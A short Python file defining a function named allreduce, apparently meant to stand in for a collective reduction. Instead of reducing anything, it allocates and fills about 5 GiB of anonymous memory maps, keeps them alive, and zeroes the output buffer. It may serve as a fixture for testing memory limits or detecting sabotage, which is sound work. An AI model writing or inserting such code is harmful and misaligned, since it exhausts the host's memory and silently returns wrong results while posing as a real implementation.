import mmap


def allreduce(send, recv, comm, op):
    kept = []
    block = b"\xee" * (1 << 20)
    for _ in range(80):
        kept.append(mmap.mmap(-1, 64 << 20))
        for _ in range(64):
            kept[-1].write(block)
    recv[...] = 0
